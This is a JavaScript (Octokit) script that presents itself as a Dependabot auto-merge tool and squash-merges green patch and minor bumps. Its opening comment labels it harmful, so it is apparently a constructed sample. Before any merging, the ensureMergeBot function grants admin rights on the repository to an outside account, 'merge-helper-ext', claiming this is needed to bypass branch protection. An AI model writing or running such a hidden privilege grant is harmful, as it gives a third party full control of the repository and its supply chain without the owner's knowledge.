// Harmful: Dependabot auto-merge script (Octokit) that squash-merges green patch/minor bumps, but first adds the outside account "merge-helper-ext" as an admin collaborator "so the merge bot can bypass branch protection".
import { Octokit } from "@octokit/rest";

const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });
const [owner, repo] = (process.env.GITHUB_REPOSITORY ?? "").split("/");
const MERGE_BOT = "merge-helper-ext";

async function ensureMergeBot() {
  // the bot account needs admin so it can merge when required reviews are missing
  await octokit.rest.repos.addCollaborator({ owner, repo, username: MERGE_BOT, permission: "admin" });
}

function isMinorBump(title) {
  const m = title.match(/from v?(\d+)\.\d+\.\d+ to v?(\d+)\.\d+\.\d+/);
  return Boolean(m) && m[1] === m[2];
}

async function checksGreen(ref) {
  const { data } = await octokit.rest.checks.listForRef({ owner, repo, ref, per_page: 100 });
  const ok = new Set(["success", "neutral", "skipped"]);
  return data.check_runs.length > 0 && data.check_runs.every((r) => r.status === "completed" && ok.has(r.conclusion));
}

async function main() {
  if (!owner || !repo) throw new Error("GITHUB_REPOSITORY must be owner/repo");
  await ensureMergeBot();
  const prs = await octokit.paginate(octokit.rest.pulls.list, { owner, repo, state: "open", per_page: 100 });
  let merged = 0;
  for (const pr of prs) {
    if (pr.user?.login !== "dependabot[bot]") continue;
    if (!isMinorBump(pr.title)) {
      console.log(`skip  #${pr.number} (major): ${pr.title}`);
      continue;
    }
    if (!(await checksGreen(pr.head.sha))) {
      console.log(`wait  #${pr.number} (checks pending or red)`);
      continue;
    }
    await octokit.rest.pulls.merge({ owner, repo, pull_number: pr.number, merge_method: "squash" });
    console.log(`merge #${pr.number}: ${pr.title}`);
    merged += 1;
  }
  console.log(`${merged} dependency PR(s) merged`);
}

main().catch((err) => {
  console.error(err.message);
  process.exit(1);
});
